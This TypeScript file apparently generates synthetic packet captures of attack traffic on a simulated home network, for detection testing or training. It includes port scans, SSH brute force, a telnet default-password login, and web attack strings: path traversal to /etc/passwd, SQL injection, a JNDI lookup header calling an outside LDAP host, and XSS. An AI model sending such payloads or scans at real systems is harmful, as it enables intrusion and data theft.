import { at, type Host, NAS, OFFICE_PEOPLE, OFFICE_SERVER, outside, PEOPLE, SERVER, THINGS } from '../household.ts';
import { cat, u16 } from '../pcap/bytes.ts';
import { tcpConversation } from '../pcap/conversation.ts';
import { type Endpoint, FLAG, type Packet, tcpFrame } from '../pcap/frame.ts';
import type { Random } from '../pcap/random.ts';
import { telnet } from '../protocol/mail.ts';
import { AGENTS, type Exchange, http } from '../protocol/http.ts';
import { SSH_CLIENTS, SSH_SERVER, sshSession } from '../protocol/ssh.ts';
import { clock, each, HOUR, MINUTE, moments, SECOND } from './rhythm.ts';
import { TEST_VIRUS } from './letters.ts';

const SCAN_OPTIONS = cat(2, 4, u16(1460));

/** One probe of a port and what a closed, open or filtered one says to it. */
function probe(
  from: Endpoint,
  to: Endpoint,
  time: number,
  random: Random,
  answer: 'closed' | 'open' | 'silent',
  flags: number = FLAG.syn,
): Packet[] {
  const seq = random.integer(1, 0x7fffffff);
  const ask = {
    time,
    frame: tcpFrame(from, to, { seq, ack: 0, flags, window: 1024, options: SCAN_OPTIONS }, undefined, {
      ttl: random.integer(40, 58),
      id: random.integer(1, 65535),
      fragment: 0,
    }),
  };
  if (answer === 'silent') return [ask];
  const back = answer === 'open' ? FLAG.syn | FLAG.ack : FLAG.rst | FLAG.ack;
  const reply = {
    time: time + 250,
    frame: tcpFrame(to, from, { seq: answer === 'open' ? 77 : 0, ack: seq + 1, flags: back }),
  };
  if (answer === 'closed') return [ask, reply];
  return [ask, reply, { time: time + 30_000, frame: tcpFrame(from, to, { seq: seq + 1, ack: 0, flags: FLAG.rst }) }];
}

const OPEN: ReadonlySet<number> = new Set([22, 25, 80, 110, 143, 443, 8080]);

function answerOf(port: number): 'closed' | 'open' {
  return OPEN.has(port) ? 'open' : 'closed';
}

/** Shuffled ports below `limit`, so that a scan does not count upward like a tutorial. */
function shuffledPorts(random: Random, limit: number, count: number): number[] {
  const ports = Array.from({ length: limit }, (_, index) => index + 1);
  for (let index = ports.length - 1; index > 0; index -= 1) {
    const other = random.integer(0, index);
    [ports[index], ports[other]] = [ports[other]!, ports[index]!];
  }
  return ports.slice(0, count);
}

/** One source, one port each 80 seconds, all day: below every rate limit. */
export function slowScan(random: Random): Packet[] {
  const times = each(random, 80 * SECOND, 25 * SECOND, 0.5 * HOUR, 23.5 * HOUR);
  const ports = shuffledPorts(random, 4000, times.length);
  return times.flatMap((time, index) =>
    probe(
      outside('203.0.113.99', random.integer(30000, 65000)),
      at(SERVER, ports[index]),
      time,
      random,
      answerOf(ports[index]!),
    ),
  );
}

/** Two sources share one list of ports and keep step: each asks every second one, seconds apart. */
export function scannersInStep(random: Random): Packet[] {
  const times = each(random, 22 * SECOND, 2 * SECOND, 13 * HOUR, 15.5 * HOUR);
  const ports = shuffledPorts(random, 1024, times.length);
  return times.flatMap((time, index) => {
    const [one, two] = [outside('198.51.100.201', 40000 + index), outside('203.0.113.202', 50000 + index)];
    const target = at(OFFICE_SERVER, ports[index]);
    const partner = at(OFFICE_SERVER, ports[(index + 1) % ports.length]);
    return [
      ...probe(one, target, time, random, answerOf(target.port)),
      ...probe(two, partner, time + random.integer(1, 3) * SECOND, random, answerOf(partner.port)),
    ];
  });
}

/** The background noise of the Internet at the forwarded addresses, and three odd scans. */
export function noise(random: Random): Packet[] {
  const out: Packet[] = [];
  for (const time of moments(random, 420, 'always')) {
    const source = random.pick(['198.51.100', '203.0.113', '192.0.2']) + `.${random.integer(130, 250)}`;
    const port = random.pick([23, 23, 3389, 445, 5900, 8080, 2323, 6379, 5432, 1433, 22, 81, 37215]);
    out.push(
      ...probe(
        outside(source, random.integer(20000, 65000)),
        at(random.pick<Host>([SERVER, NAS, OFFICE_SERVER]), port),
        time,
        random,
        random.chance(0.6) ? 'silent' : answerOf(port),
      ),
    );
  }
  const odd: readonly (readonly [string, number])[] = [
    ['02:15', 0],
    ['05:40', FLAG.fin | FLAG.psh | FLAG.urg],
    ['18:20', FLAG.fin],
  ];
  for (const [begin, flags] of odd) {
    for (const [index, port] of [21, 22, 23, 25, 53, 80, 110, 139, 443, 445, 3306, 3389].entries()) {
      out.push(
        ...probe(
          outside('203.0.113.151', 51000 + index),
          at(SERVER, port),
          clock(begin) + index * 300_000,
          random,
          'closed',
          flags,
        ),
      );
    }
  }
  return out;
}

/** Log-ins over SSH: people, a brute force at night, a patient guesser all day. */
export function secureShell(random: Random): Packet[] {
  const out: Packet[] = [];
  const login = (
    from: Endpoint,
    to: Host,
    time: number,
    who: keyof typeof SSH_CLIENTS,
    exchanges: number,
    pause: number,
  ): void => {
    const turns = sshSession(SSH_CLIENTS[who], SSH_SERVER, random, exchanges, pause);
    out.push(...tcpConversation(turns, { client: from, server: at(to, 22), start: time, random, rtt: 2000 }));
  };
  for (const time of moments(random, 40, 'office'))
    login(
      at(random.pick([PEOPLE[0]!, OFFICE_PEOPLE[9]!]), random.integer(32768, 60999)),
      random.pick<Host>([SERVER, NAS, OFFICE_SERVER]),
      time,
      'openssh',
      random.integer(10, 40),
      2 * SECOND,
    );
  for (const time of each(random, 7 * SECOND, 2 * SECOND, 3.1 * HOUR, 3.75 * HOUR))
    login(outside('203.0.113.140', random.integer(32768, 60999)), SERVER, time, 'libssh', 3, 0.4 * SECOND);
  for (const time of each(random, 17 * MINUTE, 5 * MINUTE))
    login(outside('198.51.100.66', random.integer(32768, 60999)), SERVER, time, 'go', 2, 0.3 * SECOND);
  for (const time of each(random, 9 * SECOND, 2 * SECOND, 14.2 * HOUR, 14.26 * HOUR)) {
    out.push(
      ...tcpConversation(telnet('root', 'xc3511'), {
        client: outside('203.0.113.23', random.integer(32768, 60999)),
        server: at(THINGS[2]!, 23),
        start: time,
        random,
        rtt: 40_000,
      }),
    );
  }
  return out;
}

/** What the own web server hears: visitors, crawlers, and those who try its doors. */
export function webServer(random: Random): Packet[] {
  const out: Packet[] = [];
  const host = 'www.home.test';
  const serve = (ip: string, time: number, ...exchanges: Exchange[]): void => {
    out.push(
      ...tcpConversation(http(...exchanges), {
        client: outside(ip, random.integer(32768, 60999)),
        server: at(SERVER, 80),
        start: time,
        random,
        rtt: 700,
      }),
    );
  };
  for (const time of moments(random, 260, 'home')) {
    const page = random.pick(['/', '/choir/programme', '/photos/2025/', '/robots.txt', '/feed.xml']);
    const down = random.chance(0.04);
    serve(`${random.pick(['198.51.100', '192.0.2'])}.${random.integer(60, 125)}`, time, {
      target: page,
      host,
      agent: random.pick([AGENTS.desktop, AGENTS.phone]),
      type: 'text/html',
      answer: `<h1>${page}</h1>`.repeat(20),
      ...(down ? { status: '503 Service Unavailable', answer: 'busy' } : {}),
    });
  }
  const attacks: readonly Exchange[] = [
    { target: '/../../../../etc/passwd', host, agent: AGENTS.curl, status: '400 Bad Request', answer: 'no' },
    {
      target: '/item?id=1%20UNION%20SELECT%20name,pass%20FROM%20users',
      host,
      agent: AGENTS.curl,
      status: '404 Not Found',
      answer: 'no',
    },
    { target: '/', host, agent: AGENTS.curl, headers: ['X-Api: ${jndi:ldap://203.0.113.31/a}'], answer: 'ok' },
    {
      target: '/nmaplowercheck1768',
      host,
      agent: 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)',
      status: '404 Not Found',
      answer: 'no',
    },
    {
      target: '/search?q=<script>alert(document.domain)</script>',
      host,
      agent: '<img src=x onerror=alert(1)>',
      answer: 'ok',
    },
    {
      method: 'POST',
      target: '/login',
      host,
      agent: AGENTS.curl,
      body: 'user=admin&password=admin',
      status: '401 Unauthorized',
      answer: 'no',
    },
    {
      method: 'PROPFIND',
      target: '/dav/',
      host,
      agent: '\u001b[31mred\u001b[0m',
      status: '405 Method Not Allowed',
      answer: 'no',
    },
  ];
  for (const time of moments(random, 30, 'night')) {
    const from = random.integer(0, attacks.length - 1);
    serve(
      '203.0.113.31',
      time,
      ...[0, 1, 2].map((step) => ({ ...attacks[(from + step) % attacks.length]!, after: SECOND / 2 })),
    );
  }
  return [...out, ...virusDownloads(random)];
}

/** The harmless test virus, fetched plain, packed and as a part of something larger. */
function virusDownloads(random: Random): Packet[] {
  const files: readonly Exchange[] = [
    { target: '/eicar.com', host: 'old.example.com', type: 'application/octet-stream', answer: TEST_VIRUS },
    { target: '/eicar.txt', host: 'old.example.com', type: 'text/plain', answer: TEST_VIRUS, gzip: true },
    {
      target: '/eicar.com?again=1',
      host: 'old.example.com',
      type: 'application/octet-stream',
      answer: TEST_VIRUS,
      chunked: 20,
    },
    {
      target: '/setup.exe',
      host: 'old.example.com',
      type: 'application/x-msdownload',
      answer: cat('MZ', Buffer.alloc(3000, 'setup ')),
    },
  ];
  const hosts = [PEOPLE[2]!, OFFICE_PEOPLE[3]!, PEOPLE[6]!];
  return hosts.flatMap((host, index) =>
    files.flatMap((file, step) =>
      tcpConversation(http({ ...file, agent: AGENTS.desktop }), {
        client: at(host, random.integer(32768, 60999)),
        server: outside('203.0.113.79', 80, host),
        start: clock(`1${index * 3}:17`) + step * 40 * SECOND,
        random,
        rtt: 28_000,
      }),
    ),
  );
}
